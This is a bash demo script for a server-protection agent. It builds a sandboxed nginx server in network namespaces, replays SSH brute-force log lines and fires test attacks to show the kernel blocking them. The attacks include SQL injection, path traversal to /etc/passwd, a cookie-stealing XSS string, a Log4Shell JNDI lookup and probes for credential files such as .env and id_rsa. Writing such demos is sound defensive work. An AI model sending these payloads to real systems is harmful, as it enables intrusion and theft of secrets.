#!/usr/bin/env bash
# Shows the main job on this machine without touching it: two network
# namespaces, a real web server, the agent, three attackers and a visitor. The
# kernel of the "server" namespace does the blocking. Takes half a minute and
# cleans up after itself.
set -euo pipefail
cd "$(dirname "$0")/.."

if [ "$(id -u)" != 0 ]; then
	exec sudo -E "$0" "$@"
fi

bold= dim= green= red= reset=
if [ -t 1 ] && [ -z "${NO_COLOR:-}" ]; then
	bold=$'\e[1m' dim=$'\e[2m' green=$'\e[32m' red=$'\e[31m' reset=$'\e[0m'
fi
say() { printf '\n%s%s%s\n' "$bold" "$*" "$reset"; }
run() { # show a command as the user would type it, then run it
	printf '%s$ sentinelctl %s%s\n' "$dim" "$*" "$reset"
	./bin/sentinelctl --socket "$dir/sentinel.sock" --config "$dir/config.yml" "$@"
}

dir=$(mktemp -d /tmp/sentinel-demo.XXXXXX)
server=sentinel-demo-server-$$ internet=sentinel-demo-net-$$
agent= nginx=
cleanup() {
	status=$?
	trap - EXIT INT TERM
	[ -z "$agent" ] || kill "$agent" 2>/dev/null || true
	[ -z "$nginx" ] || kill "$nginx" 2>/dev/null || true
	[ -z "$agent" ] || wait "$agent" 2>/dev/null || true
	ip netns del "$server" 2>/dev/null || true
	ip netns del "$internet" 2>/dev/null || true
	if [ "$status" != 0 ] && [ -f "$dir/agent.log" ]; then
		printf '%sThe demo failed. The agent said:%s\n' "$red" "$reset" >&2
		tail -n 20 "$dir/agent.log" >&2
	fi
	rm -rf "$dir"
	exit "$status"
}
trap cleanup EXIT INT TERM

visitor=192.0.2.10 ssh_attacker=203.0.113.66 web_attacker=198.51.100.23 scanner=2001:db8:bad::5
site4=192.0.2.1 site6=2001:db8:66::1

# Two hosts and a cable between them.
ip netns add "$server"
ip netns add "$internet"
ip link add eth0 netns "$server" type veth peer name eth0 netns "$internet"
for ns in "$server" "$internet"; do
	ip -n "$ns" link set lo up
	ip -n "$ns" link set eth0 up
done
for a in $site4/24 203.0.113.1/24 198.51.100.1/24; do ip -n "$server" addr add "$a" dev eth0; done
for a in $visitor/24 $ssh_attacker/24 $web_attacker/24; do ip -n "$internet" addr add "$a" dev eth0; done
ip -n "$server" addr add $site6/64 dev eth0 nodad
ip -n "$internet" addr add $scanner/64 dev eth0 nodad
ip -n "$server" route add 2001:db8:bad::/64 dev eth0
ip -n "$internet" route add 2001:db8:66::/64 dev eth0

# A real web server.
mkdir -p "$dir/www" "$dir/log" "$dir/tmp"
chmod 755 "$dir" "$dir/www"
echo '<h1>Shop</h1>' >"$dir/www/index.html"
cat >"$dir/nginx.conf" <<EOF
daemon off;
user root;
pid $dir/nginx.pid;
error_log $dir/log/error.log;
events {}
http {
	access_log $dir/log/access.log combined;
	client_body_temp_path $dir/tmp; proxy_temp_path $dir/tmp; fastcgi_temp_path $dir/tmp;
	uwsgi_temp_path $dir/tmp; scgi_temp_path $dir/tmp;
	server { listen 80; listen [::]:80; root $dir/www; }
}
EOF
touch "$dir/log/access.log" "$dir/log/auth.log"
ip netns exec "$server" nginx -c "$dir/nginx.conf" 2>"$dir/nginx.err" &
nginx=$!

cat >"$dir/config.yml" <<EOF
agent:
  socket: $dir/sentinel.sock
  hostname: web-demo-01
logs:
  discovery: false
  sources:
    - {path: $dir/log/auth.log, type: ssh}
    - {path: $dir/log/access.log, type: nginx}
detection:
  rules:
    custom_rules_dir: $dir/rules.d
database:
  path: $dir/sentinel.db
EOF
ip netns exec "$server" ./bin/sentinel-agent -config "$dir/config.yml" 2>"$dir/agent.log" &
agent=$!
for _ in $(seq 100); do
	[ -S "$dir/sentinel.sock" ] && ip netns exec "$server" nft list table inet sentinel >/dev/null 2>&1 && break
	kill -0 "$agent" 2>/dev/null || exit 1
	sleep 0.1
done

# get FROM URL [AGENT]: an HTTP request, or "no answer".
get() {
	local url=$2 code
	code=$(ip netns exec "$internet" curl -s -g --path-as-is -o /dev/null -m 1 -w '%{http_code}' --interface "$1" -A "${3:-Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0}" "$url" || true)
	if [ "$code" = 000 ]; then
		printf '  %-18s %-58.58s %sno answer: dropped%s\n' "$1" "/${url#http://*/}" "$red" "$reset"
		return 1
	fi
	printf '  %-18s %-58.58s %s%s%s\n' "$1" "/${url#http://*/}" "$green" "$code" "$reset"
}
# attack FROM BASE [AGENT] PATH...: requests until one is dropped.
attack() {
	local from=$1 base=$2 agent_name=$3
	shift 3
	for path in "$@"; do
		get "$from" "$base$path" "$agent_name" || return 0
		sleep 0.05
	done
	echo "the attacker was never blocked" >&2
	exit 1
}

say "A visitor reads the site"
get $visitor http://$site4/index.html || exit 1

say "1. Somebody guesses passwords over SSH (log lines of a real attack, replayed now)"
before=$(date +%s%N)
for n in 1 2 3 4 5; do
	line="$(LC_ALL=C date '+%b %e %H:%M:%S') web-demo-01 sshd[41$n]: Failed password for invalid user admin from $ssh_attacker port 5211$n ssh2"
	echo "  $line"
	echo "$line" >>"$dir/log/auth.log"
done
until ip netns exec "$server" nft get element inet sentinel block4 "{ $ssh_attacker }" >/dev/null 2>&1; do
	[ $((($(date +%s%N) - before) / 1000000000)) -lt 10 ] || { echo "not blocked" >&2; exit 1; }
done
echo "  -> in the kernel's block set after $((($(date +%s%N) - before) / 1000000)) ms, most of it spent asking nft"
get $ssh_attacker http://203.0.113.1/index.html && exit 1

say "2. Somebody attacks the web server (real requests to a real nginx)"
attack $web_attacker http://198.51.100.1 "" \
	"/item?id=1%20UNION%20SELECT%20user,password%20FROM%20users--" \
	"/download?file=../../../../etc/passwd" \
	"/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E" \
	"/?x=\${jndi:ldap://203.0.113.9/a}" "/index.html" "/index.html"

say "3. A scanner looks for secrets over IPv6"
attack $scanner "http://[$site6]" "Mozilla/5.0 zgrab/0.x" \
	/.env /.git/config /wp-config.php.bak /.aws/credentials /backup.sql /id_rsa /.svn/entries /phpinfo.php \
	/server-status /.htpasswd /index.html /index.html /index.html

say "The visitor still reads the site"
get $visitor http://$site4/index.html || exit 1

say "What the agent says"
run status
run threats
say "Why was the web attacker blocked?"
id=$(./bin/sentinelctl --socket "$dir/sentinel.sock" threats --ip $web_attacker --format json | sed -n 's/.*"short_id": *"\([^"]*\)".*/\1/p' | head -n 1)
run ai explain "$id"
run blocklist

say "What the kernel holds"
ip netns exec "$server" nft list set inet sentinel block4 | sed 's/^/  /'
ip netns exec "$server" nft list set inet sentinel block6 | sed 's/^/  /'

say "A false alarm is undone with one command"
run unblock $web_attacker --reason demo
get $web_attacker http://198.51.100.1/index.html || exit 1
say "Done. Nothing of this stays on your machine."
